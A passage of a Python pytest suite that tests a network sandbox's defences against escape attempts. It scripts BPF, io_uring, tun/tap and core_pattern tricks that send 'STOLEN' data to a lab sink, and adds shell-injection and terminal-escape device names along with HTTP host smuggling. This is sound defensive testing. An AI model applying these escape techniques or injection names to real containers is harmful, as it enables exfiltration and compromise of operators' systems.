"""Ways out that were thought of late: each is one of a kind that no other module has."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shlex
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from lab import plan
from lab.capture import capture
from lab.daemon import Daemon, attachment
from lab.internet import Internet
from lab.namespaces import Namespace
from lab.processes import Child, wait_until
from lab.sandgate import Sandgate, after_resolving, allowing, attack, find_binary
sys.path.insert(0, str(Path(__file__).parent / "attacks"))
import hellos

from test_escapes_before import HERE4, HERE6, INSIDE4, OUTSIDE4, PREPARE, SEND, STOLEN

PYTHON = "/usr/bin/python3"
BARE = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--reuid=65534", "--clear-groups"]

NOBODY4 = (f"{plan.V4}.98", f"{plan.V4}.99")
"""Addresses outside that nobody has, who would refuse."""


def refusal(daemon: Daemon, box: Namespace, **fields: object) -> str:
    """What a request to attach the box is refused with; no table is left then."""
    where: dict[str, object] = {"netns": f"/run/netns/{box.name}", **fields}
    request = {"id": "box", "attachment": where, "networkPolicy": allowing(plan.ALLOWED)}
    answer = daemon.request("POST", "/v1/sandboxes", request)
    assert answer.status == 422, answer
    assert "sandgate" not in box.check("nft", "list", "ruleset")
    message: str = answer.json["message"]
    return message


# Capabilities


@pytest.mark.attack(
    "T10a",
    "lives in the namespace with CAP_SYS_ADMIN alone, with which it attaches a BPF program to the loopback",
    stopped_by="start",
)
def test_capability_that_attaches_programs(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """bpf(2) takes CAP_SYS_ADMIN for CAP_NET_ADMIN, which rtnetlink does not."""
    administrator = ["setpriv", "--bounding-set=-all,+sys_admin", "--inh-caps=-all"]
    box.ip("address", "add", f"{HERE4}/32", "dev", "lo")
    box.check("ping", "-c", "1", "-W", "3", OUTSIDE4)

    def gets_out() -> bool:
        with internet.capture(unenforced=True) as outside:
            box.check(*BARE, PYTHON, "-c", SEND, HERE4, STOLEN)
        return STOLEN.encode() in outside.payload

    sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))
    assert not gets_out()
    down = subprocess.run(box.command(*administrator, "ip", "link", "set", "eth0", "down"), capture_output=True, text=True)
    assert "not permitted" in down.stderr, down
    box.check(*administrator, PYTHON, PREPARE, "tcx", "lo", "egress", HERE4, "eth0")
    assert gets_out(), "the rules do not hold it"
    box.check(*administrator, PYTHON, PREPARE, "free", "lo", "egress")
    assert sandbox.ask("DELETE").status == 204

    process = subprocess.Popen(box.command(*administrator, "sleep", "60"), stdin=subprocess.DEVNULL)
    try:
        wait_until(lambda: Path(f"/proc/{process.pid}/comm").read_text() == "sleep\n", "the process")
        assert "CAP_SYS_ADMIN" in refusal(daemon, box)
    finally:
        process.kill()
        process.wait()
    # A user namespace's own is worth nothing there.
    process = subprocess.Popen(
        box.command("setpriv", "--bounding-set=-all,+sys_admin,+setpcap", "--inh-caps=-all", "unshare", "--user", "sleep", "60"),
        stdin=subprocess.DEVNULL,
    )
    try:
        wait_until(lambda: Path(f"/proc/{process.pid}/comm").read_text() == "sleep\n", "the process")
        daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
    finally:
        process.kill()
        process.wait()


PROGRAM = f"""\
import ctypes, socket, struct, sys
sys.path.insert(0, {str(Path(__file__).parent / "attacks")!r})
import held_device, prepare_network
program = prepare_network.redirecting(prepare_network.SCHED_CLS, "eth0", "{HERE4}")
index = socket.if_nametoindex("lo")
if sys.argv[1] == "in another network": ctypes.CDLL(None).unshare(0x40000000)
held_device.become_nobody()
print("holding", flush=True)
sys.stdin.readline()
if sys.argv[1] == "in the network":
    prepare_network.bpf(prepare_network.PROG_ATTACH, struct.pack("=IIII", index, program, prepare_network.TCX["egress"], 0))
    print("attached", flush=True)
sys.stdin.readline()
"""


@contextlib.contextmanager
def holding(command: list[str]) -> Iterator[subprocess.Popen[str]]:
    """A program that says that it holds something, and goes on with each line that it hears."""
    process = subprocess.Popen(
        command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, start_new_session=True
    )
    try:
        assert process.stdout is not None and process.stdout.readline() == "holding\n"
        yield process
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


@pytest.mark.attack(
    "T10a",
    "keeps a BPF program open from when it had capabilities, has none any more, and attaches it to the loopback after it was attached",
    stopped_by="start",
)
def test_program_from_before(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """To load one takes capabilities; to attach it to a device of one's own network (BPF_PROG_ATTACH with tcx) takes none."""
    box.ip("address", "add", f"{HERE4}/32", "dev", "lo")
    box.check("ping", "-c", "1", "-W", "3", OUTSIDE4)
    command = box.command(PYTHON, "-c", PROGRAM, "in the network")

    def gets_out() -> bool:
        with internet.capture(unenforced=True) as outside:
            box.check(*BARE, PYTHON, "-c", SEND, HERE4, STOLEN)
        return STOLEN.encode() in outside.payload

    with holding(command) as process:
        sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box, acceptSidePaths=True))
        assert not gets_out()
        assert process.stdin is not None and process.stdout is not None
        process.stdin.write("\n")
        process.stdin.flush()
        assert process.stdout.readline() == "attached\n"
        assert gets_out(), "the rules do not hold it"
        box.check(PYTHON, PREPARE, "free", "lo", "egress")
        assert sandbox.ask("DELETE").status == 204
    with holding(command) as process:
        message = refusal(daemon, box)
        assert f"process {process.pid} " in message and "BPF program" in message, message
    daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})


@pytest.mark.attack(
    "T10a",
    "has a process in another network, beside those that it attaches, keep a BPF program open, to hand it over later",
    stopped_by="start",
)
def test_program_that_a_neighbour_keeps(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """Beside means: in the same container, told by its PID namespace."""
    script = f"exec 3<&0; {PYTHON} -c \"$0\" 'in another network' <&3 & exec {shlex.join(BARE)} sleep 60"
    command = ["unshare", "--pid", "--fork", *box.command("/bin/sh", "-c", script, PROGRAM)]
    with holding(command):
        assert "has a BPF program open" in refusal(daemon, box)
    daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})


RING = f"""\
import socket, struct, sys
sys.path.insert(0, {str(Path(__file__).parent / "attacks")!r})
import families, held_device
from held_device import raw_packets
ring = families.Ring()
credentials = ring.register_credentials()
held_device.become_nobody()
print("holding", flush=True)
sys.stdin.readline()
assert ring.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) < 0
with socket.socket(fileno=ring.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3), credentials)) as frames:
    frames.bind(("eth0", 0))
    datagram = raw_packets.udp("{INSIDE4}", "{plan.SINK4}", b"{STOLEN}")
    packet = raw_packets.header4("{INSIDE4}", "{plan.SINK4}", raw_packets.UDP, len(datagram)) + datagram
    frames.send(bytes.fromhex(sys.argv[1].replace(":", "")) + frames.getsockname()[4] + struct.pack("!H", 0x0800) + packet)
print("sent", flush=True)
sys.stdin.readline()
"""


@pytest.mark.attack(
    "T10",
    "has an io_uring keep its capabilities, gives them up before it is attached, and opens a packet socket by them afterwards",
    stopped_by="start",
)
def test_capabilities_that_a_ring_keeps(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """IORING_REGISTER_PERSONALITY. /proc says that the process has none."""
    command = box.command(PYTHON, "-c", RING, box.neighbour(OUTSIDE4))
    with holding(command) as process:
        where = attachment(box, acceptSidePaths=True)
        sandbox = daemon.create(allowing(plan.ALLOWED), attachment=where)
        assert "CapPrm:\t0000000000000000" in Path(f"/proc/{process.pid}/status").read_text()
        with internet.capture(f"host {plan.SINK4}", unenforced=True) as outside:
            assert process.stdin is not None and process.stdout is not None
            process.stdin.write("\n")
            process.stdin.flush()
            assert process.stdout.readline() == "sent\n"
        assert STOLEN.encode() in outside.payload, "the rules do not hold it"
        assert sandbox.ask("DELETE").status == 204
    with holding(command) as process:
        message = refusal(daemon, box)
        assert f"process {process.pid} " in message and "io_uring" in message, message
    daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})


# Devices whose other end is a file


@pytest.mark.attack(
    "T12 T10a",
    "takes hold of a tun or tap device that was left from before, for which it needs no privilege, and answers connections from "
    "outside that it makes up",
    stopped_by="start",
)
@pytest.mark.parametrize("kind", ["tap", "tun"])
def test_device_for_the_taking(internet: Internet, daemon: Daemon, box: Namespace, kind: str) -> None:
    """What is written to the device comes from outside for the rules, from whatever address; the answer goes to that address."""
    box.ip("tuntap", "add", "left0", "mode", kind)
    box.ip("link", "set", "left0", "up")
    for key, value in (("conf.all.rp_filter", 0), ("conf.left0.rp_filter", 0), ("tcp_fastopen", 0x203)):
        box.sysctl(f"net.ipv4.{key}", str(value))

    def answers(somebody: str) -> bool:
        with internet.capture(f"dst host {somebody}", unenforced=True) as outside:
            box.check(*attack("held_device", kind, "left0", somebody, INSIDE4, STOLEN))
        return STOLEN.encode() in outside.payload

    assert answers(NOBODY4[0]), "without rules"
    sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box, acceptSidePaths=True))
    assert answers(NOBODY4[1]), "the rules do not hold it"
    assert sandbox.ask("DELETE").status == 204
    message = refusal(daemon, box, acceptRawSockets=True)
    assert "device left0" in message, message
    box.check("/bin/sh", "-c", re.search(r"remove it \((.*?)\), or say", message)[1])  # type: ignore[index]
    daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))


HOLD = f"""\
import ctypes, fcntl, os, signal, struct, subprocess, sys
sys.path.insert(0, {str(Path(__file__).parent / "attacks")!r})
import held_device
libc, network = ctypes.CDLL(None), 0x40000000
own = os.open("/proc/self/ns/net", os.O_RDONLY)
libc.setns(os.open(sys.argv[2], os.O_RDONLY), network)
file = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(file, held_device.SET_DEVICE, struct.pack("16sH22x", b"held0", held_device.TAP | held_device.NO_HEADER))
subprocess.run(["ip", "link", "set", "held0", "up"], check=True)
if sys.argv[1] == "in the machine's network": libc.setns(own, network)
elif sys.argv[1] == "in another network": libc.unshare(network)
held_device.become_nobody()
print("holding", flush=True)
signal.pause()
"""


@pytest.mark.attack(
    "T12 T10a",
    "keeps a tap device open that it made before its network was attached, there or in another network of its own",
    stopped_by="start",
)
@pytest.mark.parametrize("place", ["in the network", "in another network"])
def test_device_that_is_held(internet: Internet, daemon: Daemon, box: Namespace, place: str) -> None:
    """What can be done with it is what the test before this one does. Whoever is in another network is of the same container, told
    by its PID namespace."""
    script = f"{PYTHON} -c \"$0\" \"$@\" & exec ip netns exec {box.name} {shlex.join(BARE)} sleep 60"
    inside = ["unshare", "--pid", "--fork", "/bin/sh", "-c", script, HOLD, place, f"/run/netns/{box.name}"]
    with holding(inside):
        wait_until(lambda: "held0" in box.check("ip", "-o", "link", "show"), "the device")
        message = refusal(daemon, box)
        assert "device held0 of this namespace open" in message, message
    daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})


@pytest.mark.honest("networks that a program of the machine serves by a tap device (pasta, slirp4netns)")
@pytest.mark.parametrize("place", ["in the machine's network", "in another network"])
def test_device_that_the_machine_holds(internet: Internet, daemon: Daemon, box: Namespace, place: str) -> None:
    holder = Child([PYTHON, "-c", HOLD, place, f"/run/netns/{box.name}"], "holding")
    try:
        daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
    finally:
        holder.stop()


@pytest.mark.attack(
    "T10",
    "has the file of a macvtap device open, whose frames leave by no hook of the network that the device is in",
    stopped_by="start",
)
def test_file_of_a_device(internet: Internet, daemon: Daemon, box: Namespace, tmp_path: Path) -> None:
    """The device that it stands on is in another network."""
    outside = internet.namespace
    ends = (f"sgmva-{os.getpid()}", f"sgmvb-{os.getpid()}")
    outside.ip("link", "add", ends[0], "type", "veth", "peer", "name", ends[1])
    try:
        for end in ends:
            outside.ip("link", "set", end, "up")
        outside.ip("link", "add", "link", ends[0], "name", "sgmv", "type", "macvtap", "mode", "bridge")
        outside.ip("link", "set", "sgmv", "netns", box.name)
        box.ip("link", "set", "sgmv", "up")
        number = box.check("/bin/sh", "-c", "cat /sys/class/net/sgmv/macvtap/*/dev").strip()
        file = tmp_path / "tap"
        os.mknod(file, 0o600 | 0o020000, os.makedev(*map(int, number.split(":"))))
        command = attack("held_device", "file", str(file), "ff:ff:ff:ff:ff:ff", INSIDE4, plan.SINK4, STOLEN)

        def gets_out() -> bool:
            with internet.capture(unenforced=True) as captured:
                box.check(*command)
            return STOLEN.encode() in captured.payload

        assert gets_out(), "without rules"
        sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box, acceptSidePaths=True))
        assert gets_out(), "the rules do not hold it"
        assert sandbox.ask("DELETE").status == 204
        assert "device sgmv of kind macvtap" in refusal(daemon, box, acceptRawSockets=True)
    finally:
        subprocess.run(outside.command("ip", "link", "delete", ends[0]), capture_output=True)


# Names that an operator's shell or terminal would obey

COMMAND = "x;>owned;x"
"""As a shell reads it: makes a file. No device's name may have a slash or a space."""
ERASE = "\x1b[1A\x1b[2K"
"""Takes back the line above the cursor's."""
NAMES = {
    "device": f"ip link add '{COMMAND}' type bridge; ip link set dev '{COMMAND}' up; tc qdisc add dev '{COMMAND}' clsact",
    "loopback": f"ip link set lo down; ip link set dev lo name '{COMMAND}'; ip link set dev '{COMMAND}' up; "
    f"$PREPARE tcx '{COMMAND}' egress {HERE4} eth0",
    "option": "ip link add name -h type bridge; "
    "tc qdisc add dev $(ip -o link show type bridge | sed 's/:.*//;s/^/if/') clsact",
    "escape": f"ip link add '{ERASE}' type bridge; tc qdisc add dev '{ERASE}' clsact",
}
TABLE = {"family": "ip", "table": f"{COMMAND} {ERASE}", "chain": "$(>owned)"}


def rename_with_rules(box: Namespace, directory: Path) -> None:
    """A table and a chain whose names nft(8) itself could not write down."""
    chain = {"family": "ip", "table": TABLE["table"], "name": TABLE["chain"]}
    hook = {"type": "filter", "hook": "output", "prio": 5, "policy": "accept"}
    mark = {"mangle": {"key": {"meta": {"key": "mark"}}, "value": 5}}
    things = [{"table": {"family": "ip", "name": TABLE["table"]}}, {"chain": chain | hook}, {"rule": TABLE | {"expr": [mark]}}]
    file = directory / "rules.json"
    file.write_text(json.dumps({"nftables": [{"add": thing} for thing in things]}))
    box.check("nft", "-j", "-f", file)


@pytest.mark.attack(
    "T10a T13",
    "has left devices, tables and chains whose names the operator's shell executes, where the command that removes them is pasted, "
    "or his terminal obeys",
    stopped_by="start",
)
@pytest.mark.parametrize("what", [*NAMES, "table"])
def test_names_in_remedies(internet: Internet, daemon: Daemon, box: Namespace, tmp_path: Path, what: str) -> None:
    if what == "table":
        rename_with_rules(box, tmp_path)
    else:
        box.check("/bin/sh", "-c", f"PREPARE='{PYTHON} {PREPARE}'; set -e; {NAMES[what]}")
    place = tmp_path / "pasted"
    place.mkdir()
    # That the names do what they are for, where they are written down as they are.
    subprocess.run(["/bin/sh", "-c", f"tc qdisc del dev {COMMAND} clsact"], cwd=place, capture_output=True)
    (place / "owned").unlink()

    request = {"attachment": attachment(box), "networkPolicy": allowing(plan.ALLOWED)}
    left = 10
    while (answer := daemon.request("POST", "/v1/sandboxes", request)).status != 201:
        message = answer.json["message"]
        assert message.isascii() and message.isprintable() and ERASE not in message, message
        remedy = re.search(r": remove it \((.*)\), or say", message)
        assert answer.status == 422 and remedy, answer
        detach = re.fullmatch(r"bpftool net detach tcx_(\w+) dev (\w+)", remedy[1])
        command = f"{PYTHON} {PREPARE} free {detach[2]} {detach[1]}" if detach else remedy[1]
        done = subprocess.run(box.command("/bin/sh", "-c", command), cwd=place, capture_output=True, text=True)
        assert list(place.iterdir()) == [], f"{remedy[1]}: {done}"
        assert done.returncode == 0, f"{remedy[1]}: {done}"
        assert (left := left - 1) > 0, answer
    assert left < 10, "it was attached as it was"


@pytest.mark.attack(
    "T13 T10",
    "calls itself or a table so that the operator's terminal takes back what the daemon's answer says of it",
    stopped_by="control API",
)
def test_names_that_a_terminal_obeys(internet: Internet, daemon: Daemon, box: Namespace, tmp_path: Path) -> None:
    tool = [str(find_binary()), "--socket", str(daemon.socket)]

    def said(*words: str) -> str:
        done = subprocess.run([tool[0], *words, *tool[1:]], capture_output=True, text=True)
        return done.stdout + done.stderr

    script = f"import ctypes, time; ctypes.CDLL(None).prctl(15, {ERASE.encode()!r}); print('named', flush=True); time.sleep(60)"
    process = Child(box.command(PYTHON, "-c", script), "named")
    try:
        message = said("attach", "--netns", f"/run/netns/{box.name}", "--id", "box")
        assert "CAP_NET_RAW" in message and "\\u{1b}[1A" in message and "\x1b" not in message, message
    finally:
        process.stop()
    daemon.create(allowing(plan.ALLOWED), id="box", attachment=attachment(box))
    rename_with_rules(box, tmp_path)
    wait_until(lambda: '"Failed"' in said("inspect", "box", "--json").replace(" ", ""), "the change to be noticed")
    message = said("inspect", "box")
    assert "because:" in message and "\\u{1b}[1A" in message and "\x1b" not in message, message
    assert ERASE not in daemon.log


# Programs that the kernel starts

DUMPED = """\
import ctypes, os, resource, signal, sys
libc = ctypes.CDLL(None)
way, name = sys.argv[1:]
zero = (resource.RLIMIT_CORE, (0, 0))
limit = (ctypes.c_uint64 * 2)(0, 0)
if way == "none": resource.setrlimit(*zero)
elif way == "of another":
    if (child := os.fork()) == 0:
        try: resource.prlimit(os.getppid(), *zero)
        except PermissionError as error: print(error)
        os._exit(0)
    os.waitpid(child, 0)
elif way == "old call": libc.syscall(160 if os.uname().machine == "x86_64" else 164, 4, limit)
elif way == "high address":
    # The lower half of the new limit's address is 0.
    libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    address = libc.mmap(0x500000000, 4096, 3, 0x32, -1, 0)
    assert address == 0x500000000
    libc.syscall(302 if os.uname().machine == "x86_64" else 261, 0, 4, ctypes.c_void_p(address), None)
print("limit", *resource.getrlimit(resource.RLIMIT_CORE), flush=True)
libc.prctl(15, name.encode())
signal.signal(signal.SIGSEGV, signal.SIG_DFL)
os.kill(os.getpid(), signal.SIGSEGV)
"""


@pytest.fixture
def dumps(request: pytest.FixtureRequest) -> Iterator[Path]:
    """What a program of the node was told that gets core dumps. It is started in the node's own namespaces, so it is not in a
    directory of the lab's."""
    place = Path(f"/var/cache/sandgate-lab-{uuid.uuid4().hex[:12]}")
    program, told = place.with_suffix(".sh"), place.with_suffix(".told")
    program.write_text(f'#!/bin/sh\necho "$@" >> {told}\n')
    pattern = Path("/proc/sys/kernel/core_pattern")
    before = pattern.read_text()
    try:
        program.chmod(0o755)
        told.touch()
        pattern.write_text(f"|{program} %e")
        yield told
    finally:
        pattern.write_text(before)
        program.unlink()
        told.unlink()


@pytest.mark.attack(
    "T16",
    "has the kernel start a program of the node that gets its core dump (core_pattern), with words and memory of its choice",
    stopped_by="seccomp",
)
@pytest.mark.parametrize("way", ["as it is", "none", "of another", "old call", "high address"])
@pytest.mark.parametrize("user", ["root", "user"], indirect=True)
def test_program_that_gets_dumps(internet: Internet, sandgate: Sandgate, dumps: Path, way: str) -> None:
    """A limit of 0 bytes is none for a program: only one of 1 byte keeps it from being started (do_coredump)."""
    internet.unenforced([PYTHON, "-c", DUMPED, way, "outside"])
    wait_until(lambda: "outside" in dumps.read_text(), "the program of the node")
    run = sandgate.run(allowing(), PYTHON, "-c", DUMPED, way, "inside")
    # One that comes later is told of later.
    internet.unenforced([PYTHON, "-c", DUMPED, way, "afterwards"])
    wait_until(lambda: "afterwards" in dumps.read_text(), "the program of the node")
    assert "inside" not in dumps.read_text(), run
    assert "limit 1 1" in run.stdout and run.returncode == 128 + 11, run


@pytest.mark.honest("programs that set limits, of core dumps among them")
@pytest.mark.parametrize("pattern", ["program", "file"])
def test_limits_of_programs(internet: Internet, sandgate: Sandgate, pattern: str, request: pytest.FixtureRequest) -> None:
    if pattern == "program":
        request.getfixturevalue("dumps")
    script = "set -e; ulimit -c 0; ulimit -n 100; ulimit -n; ulimit -c"
    run = sandgate.run(allowing(), "/bin/sh", "-c", script)
    assert run.returncode == 0 and run.stdout.split()[0] == "100", run
    if pattern == "file":
        assert run.stdout.split()[1] == "0", run


# What the kernel says by itself, of what programs chose

ADDRESSES = {"group": "239.71.72.73", "source": "198.18.74.75", "group6": "ff3e::7172:7374:7576", "neighbour": "10.99.77.78"}
ADDRESSES["neighbour6"] = "fd78::7172:7374:7576:7778"
JOINS = f"""\
import socket, struct
pack = socket.inet_aton
index = socket.if_nametoindex("eth0")
own = pack("{INSIDE4}")
kept = []
def tries(what, family, *option):
    s = socket.socket(family, socket.SOCK_DGRAM)
    kept.append(s)
    try: s.setsockopt(*option)
    except OSError as error: print(what, error)
tries("group", socket.AF_INET, 0, 35, pack("{ADDRESSES["group"]}") + own)
tries("source", socket.AF_INET, 0, 39, pack("232.1.2.3") + own + pack("{ADDRESSES["source"]}"))
tries("group6", socket.AF_INET6, 41, 20, socket.inet_pton(socket.AF_INET6, "{ADDRESSES["group6"]}") + struct.pack("I", index))
for family, address in ((socket.AF_INET, "{ADDRESSES["neighbour"]}"), (socket.AF_INET6, "{ADDRESSES["neighbour6"]}")):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(family, kind)
        s.settimeout(0.3)
        try:
            s.connect((address, 4444))
            s.send(b"x")
        except OSError as error: print(address, error)
import time
time.sleep(1.5)
print("tried everything")
"""


@pytest.mark.attack(
    "B2 B1",
    "has the kernel's own messages say what it chose: groups and sources that it joins (IGMP, MLD), neighbours that it looks for "
    "(ARP, neighbour discovery)",
    stopped_by="kernel",
)
def test_what_the_kernel_says_of_groups_and_neighbours(
    internet: Internet, daemon: Daemon, box: Namespace, tmp_path: Path
) -> None:
    """The pause is for reports, which the kernel delays by as much as a second."""
    box.ip("route", "add", "10.99.0.0/16", "dev", "eth0")

    def heard(number: int) -> set[str]:
        # Reports of MLD are behind a header of options.
        filter = "arp or igmp or icmp6 or ip6[6] == 0"
        with capture(internet.namespace.command(), "any", tmp_path / f"{number}.pcap", filter) as outside:
            done = subprocess.run(box.command(*BARE, PYTHON, "-c", JOINS), capture_output=True, text=True, timeout=30)
        assert "tried everything" in done.stdout, done
        families = {name: socket.AF_INET6 if ":" in text else socket.AF_INET for name, text in ADDRESSES.items()}
        wanted = {name: socket.inet_pton(families[name], text) for name, text in ADDRESSES.items()}
        return {name for name, value in wanted.items() if value in outside.payload}

    assert heard(1) == set(ADDRESSES), "without rules"
    daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))
    box.check("ip", "neigh", "flush", "all")
    assert heard(2) == set()


# Networks that forward what is sent to themselves

SEGMENTS = f"""\
import socket
first = socket.inet_pton(socket.AF_INET6, "{HERE6}")
header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + first
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
    s.setsockopt(41, 57, header)  # IPV6_RTHDR
    try: s.sendto(b"{STOLEN}", ("{plan.SINK6}", 4444))
    except OSError as error: print(error)
"""
GROUP = "239.71.72.73"
MULTICAST = f"""\
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.setsockopt(0, 32, socket.inet_aton("127.0.0.1"))  # IP_MULTICAST_IF
    s.setsockopt(0, 33, 8)  # IP_MULTICAST_TTL
    s.bind(("{HERE4}", 0))
    try: s.sendto(b"{STOLEN}", ("{GROUP}", 4444))
    except OSError as error: print(error)
"""
ROUTER = f"""\
import signal, socket, struct, sys
sys.path.insert(0, {str(Path(__file__).parent / "attacks")!r})
import held_device
router = socket.socket(socket.AF_INET, socket.SOCK_RAW, 2)
router.setsockopt(0, 200, 1)  # MRT_INIT
def device(number, address):
    # MRT_ADD_VIF
    router.setsockopt(0, 202, struct.pack("=HBBI4s4s", number, 0, 1, 0, socket.inet_aton(address), bytes(4)))
device(0, "{HERE4}")
device(1, "{INSIDE4}")
ttls = bytes([0, 1]) + bytes(30)
entry = socket.inet_aton("{HERE4}") + socket.inet_aton("{GROUP}") + struct.pack("=H", 0) + ttls + bytes(2) + bytes(16)
router.setsockopt(0, 204, entry)  # MRT_ADD_MFC
held_device.become_nobody()
print("routing", flush=True)
signal.pause()
"""


@dataclass(frozen=True)
class Forwarding:
    """A network that its own packets are forwarded in."""

    words: str
    settings: dict[str, str]
    sends: str
    router: str = ""
    """A program without privilege that keeps a socket from before."""


FORWARDING = {
    "segments": Forwarding(
        "packets to itself whose routing header names a segment outside",
        {"net.ipv6.conf.all.forwarding": "1", "net.ipv6.conf.all.seg6_enabled": "1", "net.ipv6.conf.lo.seg6_enabled": "1"},
        SEGMENTS,
    ),
    "multicast": Forwarding(
        "packets to a group on its loopback, by routes that the socket of a router of multicast from before keeps",
        {"net.ipv4.conf.all.rp_filter": "0", "net.ipv4.conf.lo.rp_filter": "0"},
        MULTICAST,
        ROUTER,
    ),
}


@pytest.mark.parametrize(
    "way",
    [
        pytest.param(
            way, id=name, marks=pytest.mark.attack("T10a B2", f"has its network forward {way.words}", stopped_by="kernel")
        )
        for name, way in FORWARDING.items()
    ],
)
def test_network_that_forwards(internet: Internet, daemon: Daemon, box: Namespace, way: Forwarding) -> None:
    box.ip("address", "add", f"{HERE4}/32", "dev", "lo")
    box.ip("-6", "address", "add", f"{HERE6}/128", "dev", "lo")
    for key, value in way.settings.items():
        box.sysctl(key, value)
    # Where it forwards, it hears of no routers.
    box.check("ip", "-6", "route", "replace", "default", "via", "fd78::1")
    for neighbour in (OUTSIDE4, "fd78::1"):
        box.check("ping", "-c", "1", "-W", "3", neighbour)

    def gets_out() -> bool:
        with internet.capture(unenforced=True) as outside:
            box.check(*BARE, PYTHON, "-c", way.sends)
        return STOLEN.encode() in outside.payload

    router = Child(box.command(PYTHON, "-c", way.router), "routing") if way.router else None
    try:
        assert gets_out(), "without rules"
        daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
        assert not gets_out()
    finally:
        if router:
            router.stop()


# Words that come when the server has been dialled already

REQUEST = f"T /smuggled HTTP/1.1\r\nHost: {plan.OTHER}\r\n\r\n"
HELLO = hellos.records(hellos.ordinary(plan.OTHER))
LATE: dict[str, list[str | bytes]] = {
    "request": ["", "GE" + REQUEST],
    "request in the middle of a word": ["GE", REQUEST],
    "request in the middle of white space": ["\r\n \r", "\nGE" + REQUEST],
    "hello": ["", HELLO],
    "hello in the middle of a record's header": [HELLO[:3], HELLO[3:]],
    "hello in the middle of its name": [HELLO[: HELLO.index(b"other") + 3], HELLO[HELLO.index(b"other") + 3 :]],
}


def escaped(piece: str | bytes) -> str:
    """As pieces.py takes it."""
    return "".join(f"\\x{byte:02x}" for byte in (piece.encode() if isinstance(piece, str) else piece))


@pytest.mark.attack(
    "P2 P1 N3",
    "is silent, or stops in a word, until its server is dialled that may be the first to speak, and then names another host",
    stopped_by="http-host, tls-sni",
)
@pytest.mark.parametrize("words", LATE)
@pytest.mark.parametrize("way", ["transparent", "socks"])
def test_words_that_come_late(internet: Internet, sandgate: Sandgate, words: str, way: str) -> None:
    """On a port that is not a browser's, where the first 300 ms without a word have the server dialled."""
    pieces = [escaped(piece) for piece in LATE[words]]
    internet.unenforced(attack("pieces", plan.SINK4, 4444, *pieces))
    whole = internet.sinks.data()
    assert "smuggled" in whole or plan.OTHER in whole

    if way == "transparent":
        command = after_resolving(plan.SINK, then=attack("pieces", plan.SINK4, 4444, *pieces))
    else:
        opening = b"\5\1\0\3" + bytes([len(plan.SINK)]) + plan.SINK.encode() + (4444).to_bytes(2, "big")
        host, _, port = plan.EXPLICIT_PROXY.rpartition(":")
        command = attack("pieces", host, port, escaped(b"\5\1\0"), escaped(opening), *pieces)
    with internet.capture("tcp dst port 4444") as outside:
        run = sandgate.run(allowing(plan.SINK), *command)
    # What may become TLS is waited for, where the server is not dialled for its name alone.
    assert bool(outside.lines) == (way == "socks" or not words.startswith("hello in")), f"whether it was dialled: {run}"
    arrived = outside.payload
    assert b"smuggled" not in arrived and plan.OTHER.encode() not in arrived and b"other" not in arrived, run
    assert run.audit.where(verdict="deny", host=plan.OTHER, port=4444) or run.audit.where(reason="malformed-http"), run


# Requests to go on, made to others than our proxy


@pytest.mark.attack(
    "P6 P5", "asks an allowed server that may be a proxy itself for a tunnel to a denied host, past ours", stopped_by="http-host"
)
@pytest.mark.parametrize("host", ["of the tunnel", "of the server"])
@pytest.mark.parametrize("port", [80, 4444])
def test_tunnel_through_an_allowed_server(internet: Internet, sandgate: Sandgate, host: str, port: int) -> None:
    name = f"{plan.OTHER}:443" if host == "of the tunnel" else plan.SINK
    command = attack("pieces", plan.SINK4, port, rf"CONNECT {plan.OTHER}:443 HTTP/1.1\r\nHost: {name}\r\n\r\n", "smuggled")
    internet.unenforced(command)
    assert "smuggled" in internet.sinks.data()
    run = sandgate.run(allowing(plan.SINK), *after_resolving(plan.SINK, then=command))
    arrived = internet.sinks.data()
    assert "CONNECT" not in arrived and "smuggled" not in arrived, run
    assert run.audit.where(verdict="deny"), run


# Connections over several paths

MPTCP = 262
PEER = f"""\
import socket, sys, time
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, {MPTCP}) as s:
    s.bind((sys.argv[1], 0))
    s.connect((sys.argv[2], 5000))
    for _ in range(20):
        s.send(b"x")
        s.recv(100)
        time.sleep(0.05)
"""
ANSWERING = f"""\
import socket
listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM, {MPTCP})
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("0.0.0.0", 5000))
listener.listen()
print("listening", flush=True)
while True:
    with listener.accept()[0] as connection:
        while data := connection.recv(100): connection.send(data)
"""


@pytest.mark.attack(
    "T12 T10a",
